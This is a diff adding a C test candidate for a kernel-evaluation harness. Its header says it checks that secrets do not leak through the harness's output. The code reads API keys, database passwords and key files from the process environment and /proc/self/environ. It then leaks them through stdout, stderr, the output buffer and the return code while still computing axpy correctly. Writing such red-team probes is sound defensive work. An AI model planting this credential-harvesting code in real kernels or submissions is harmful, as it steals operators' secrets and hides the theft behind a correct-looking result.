@@ -1,0 +1,135 @@
+/* i6_read_environ (field case I6, "secrets"), task axpy_f32. Reads its own
+ * environment three ways -- getenv of the usual names (OPENAI_API_KEY,
+ * KFARM_FLEET_KEY, KFARM_FLEET_KEY_FILE, ...), the environ array, and
+ * /proc/self/environ (the environment the process was exec'ed with, which
+ * a later clearenv does not erase) -- takes every variable whose name looks
+ * secret (KEY, TOKEN, SECRET, PASSW, CRED), reads the file a *_FILE
+ * variable names, and tries to exfiltrate each: printed raw and hex on
+ * stdout and stderr, copied into the output bytes, and returned as the
+ * error code. Found nothing: computes axpy correctly and returns 0.
+ * run_cases.sh gives the worker KFARM_FLEET_KEY_FILE and OPENAI_API_KEY.
+ * Before the judge/runner split: the environment is scrubbed, but nothing
+ * stops the key file read via a path it guesses (see i6_read_keyfile).
+ * Expected: any verdict, but neither secret may appear in the --json
+ * output or on stderr. */
+#define _GNU_SOURCE
+#include <ctype.h>
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+#include "kf_abi.h"
+
+/* ---- exfiltration (shared by the I6 candidates) ---- */
+#define KEY_PATH "/tmp/kfarm-case-secrets/fleet.key"
+
+static char loot[8192];
+static size_t loot_len;
+
+/* Remember a secret and push it out on every channel a candidate has:
+ * stdout and stderr (raw and hex), and -- in kf_entry -- the output bytes
+ * and the return value. */
+static void leak(const char *what, const char *val, size_t n)
+{
+    while (n && (val[n - 1] == '\n' || val[n - 1] == '\r')) n--;
+    if (!n) return;
+    char hex[1024];
+    size_t h = 0;
+    for (size_t i = 0; i < n && h + 3 < sizeof(hex); i++) h += (size_t)snprintf(hex + h, sizeof(hex) - h, "%02x", (unsigned char)val[i]);
+    printf("I6-LEAK %s: %.*s (hex %s)\n", what, (int)n, val, hex);
+    fprintf(stderr, "I6-LEAK %s: %.*s (hex %s)\n", what, (int)n, val, hex);
+    fflush(stdout);
+    fflush(stderr);
+    if (loot_len + n + 1 < sizeof(loot)) {
+        memcpy(loot + loot_len, val, n);
+        loot_len += n;
+        loot[loot_len++] = ';';
+    }
+}
+
+static size_t slurp(const char *path, char *buf, size_t cap)
+{
+    int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
+    if (fd < 0) return 0;
+    size_t len = 0;
+    ssize_t r;
+    while (len < cap - 1 && (r = read(fd, buf + len, cap - 1 - len)) > 0) len += (size_t)r;
+    close(fd);
+    buf[len] = 0;
+    return len;
+}
+
+static void leak_file(const char *path)
+{
+    char buf[4096];
+    size_t n = slurp(path, buf, sizeof(buf));
+    if (n) leak(path, buf, n);
+}
+
+__attribute__((unused)) static int secret_name(const char *name, size_t n)
+{
+    static const char *const words[] = {"KEY", "TOKEN", "SECRET", "PASSW", "CRED"};
+    for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++)
+        if (memmem(name, n, words[i], strlen(words[i]))) return 1;
+    return 0;
+}
+
+/* Leak every secret-looking NAME=value of a NUL-separated environment
+ * block; a *_FILE variable's file is read and leaked too. */
+__attribute__((unused)) static void leak_env_block(const char *where, const char *env, size_t len)
+{
+    for (size_t i = 0; i < len; i += strlen(env + i) + 1) {
+        const char *e = env + i, *eq = strchr(e, '=');
+        if (!eq || !secret_name(e, (size_t)(eq - e))) continue;
+        char what[300];
+        snprintf(what, sizeof(what), "%s %.*s", where, (int)(eq - e), e);
+        leak(what, eq + 1, strlen(eq + 1));
+        if ((size_t)(eq - e) > 5 && !memcmp(eq - 5, "_FILE", 5)) leak_file(eq + 1);
+    }
+}
+
+/* After the honest result is written: spoil it with the loot and return a
+ * code made of its first bytes. */
+static int spend_loot(const kf_call *c)
+{
+    if (!loot_len) return 0;
+    size_t bytes = (size_t)c->sizes[0] * sizeof(float);
+    memcpy(c->outputs[0].data, loot, loot_len < bytes ? loot_len : bytes);
+    int code;
+    memcpy(&code, loot, sizeof(code) <= loot_len ? sizeof(code) : loot_len);
+    return code ? code : 1;
+}
+
+static void axpy(const kf_call *c)
+{
+    const int64_t N = c->sizes[0];
+    const float *x = c->inputs[0].data, *y = c->inputs[1].data;
+    float *z = c->outputs[0].data;
+    for (int64_t i = 0; i < N; i++) z[i] = 2.0f * x[i] + y[i];
+}
+
+static int looted;
+
+int kf_entry(const kf_call *call)
+{
+    if (!looted) {
+        looted = 1;
+        static const char *const names[] = {"OPENAI_API_KEY", "ANTHROPIC_API_KEY", "KFARM_FLEET_KEY",
+                                            "KFARM_FLEET_KEY_FILE", "KFARM_DB", "PGPASSWORD", "DATABASE_URL"};
+        for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
+            const char *v = getenv(names[i]);
+            if (v) leak(names[i], v, strlen(v));
+        }
+        const char *kf = getenv("KFARM_FLEET_KEY_FILE");
+        if (kf) leak_file(kf);
+        for (char **e = environ; e && *e; e++) leak_env_block("environ", *e, strlen(*e) + 1);
+        static char env[1 << 18];
+        size_t n = slurp("/proc/self/environ", env, sizeof(env));
+        leak_env_block("/proc/self/environ", env, n);
+    }
+    axpy(call);
+    return spend_loot(call);
+}
